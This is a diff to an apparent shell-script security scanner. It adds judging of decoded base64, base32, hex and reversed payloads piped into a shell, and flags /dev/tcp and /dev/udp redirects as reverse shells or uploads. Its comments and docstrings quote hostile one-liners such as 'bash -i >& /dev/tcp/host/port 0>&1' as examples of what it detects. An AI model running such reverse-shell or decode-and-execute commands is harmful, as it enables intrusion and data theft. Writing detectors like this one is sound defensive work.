@@ -608,6 +608,7 @@ def _download_exec(j: _Judge, s: Script) -> None:
                     j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, why is not None), p.start, p.end,
                           _exec_message(f"piped into {via}", f, why), form="pipe")
                     break
+        _decoded_payload(j, stages, s.depth)
         # assignments from a fetch taint the variable
         for st in stages:
             for name, w in st.assigns:
@@ -652,6 +653,58 @@ def _download_exec(j: _Judge, s: Script) -> None:
                     j.add(RULE_DOWNLOAD_EXEC, _sev(j.auto, why is not None), st.start, st.end,
                           f"Runs a script straight from a URL: {_clip(op.text, 70)}" + (f" ({why})" if why else ""),
                           form="url-operand")
+
+
+def _decode_literal(data: str, stages: Sequence[Command]) -> str | None:
+    """Apply the decoders of ``stages`` (``base64 -d``, ``base32 -d``, ``xxd -r -p``, ``rev``) to
+    ``data``; ``None`` when a stage is something else or the data does not decode."""
+    import base64
+    import binascii
+
+    out = data
+    for c in stages:
+        name, args, _w = c.effective()
+        flags = " ".join(a.text for a in args)
+        try:
+            if name == "base64" and re.search(r"-d|-D|--decode", flags):
+                out = base64.b64decode(re.sub(r"\s", "", out) + "===", validate=False).decode("utf-8")
+            elif name == "base32" and re.search(r"-d|--decode", flags):
+                t = re.sub(r"\s", "", out).upper()
+                out = base64.b32decode(t + "=" * (-len(t) % 8)).decode("utf-8")
+            elif name == "xxd" and "-r" in flags:
+                out = binascii.unhexlify(re.sub(r"[^0-9a-fA-F]", "", out)).decode("utf-8")
+            elif name == "rev":
+                out = "\n".join(line[::-1] for line in out.split("\n"))
+            else:
+                return None
+        except (ValueError, UnicodeDecodeError, binascii.Error):
+            return None
+    return out
+
+
+def _decoded_payload(j: _Judge, stages: Sequence[Command], depth: int) -> None:
+    """``echo <base64> | base64 -d | sh``: the decoded text is what runs, so it is parsed and judged
+    too (its findings point at the encoded literal; decode-and-execute itself is SUP002's)."""
+    if len(stages) < 3 or depth >= shell.MAX_DEPTH:
+        return
+    first = stages[0]
+    name, args, _w = first.effective()
+    if name not in ("echo", "printf") or not args or any(a.expands for a in args):
+        return
+    lit = [a for a in args if not a.text.startswith("-")]
+    if not lit:
+        return
+    for k in range(2, len(stages)):
+        if _reads_stdin_program(stages[k]):
+            payload = _decode_literal(" ".join(a.text for a in lit), stages[1:k])
+            if payload:
+                w = lit[-1] if len(lit) == 1 else lit[0]
+                omap = OffsetMap(((0, w.start),), limit=(w.start, max(w.start, lit[-1].end - 1)))
+                sub = shell.parse(payload, omap, depth + 1)
+                for h in judge_script(sub, j.origin):
+                    h.message += " (decoded from the encoded text piped into " + stages[k].effective()[0] + ")"
+                    j.hits.append(h)
+            return
 
 
 def _is_verifier(c: Command) -> bool:
@@ -872,6 +925,14 @@ def _network(j: _Judge, c: Command) -> None:
                                                                 else ""))
                 return
         return
+    for r in c.redirects:  # `bash -i >& /dev/tcp/host/port 0>&1`, `cat f > /dev/udp/host/53`
+        t = r.target.text if r.target is not None else ""
+        if t.startswith(("/dev/tcp/", "/dev/udp/")) and not _is_local(t[9:]):
+            loc = secret_in(t)
+            j.add(RULE_UPLOAD, Severity.ERROR, c.start, c.end,
+                  f"Connects {name or 'the shell'}'s input/output to the network socket {_clip(t, 50)}"
+                  + (" (an interactive shell: a reverse shell)" if name in shell.SHELLS else ""))
+            return
     if name not in SENDERS:
         return
     dest = _destination(c)
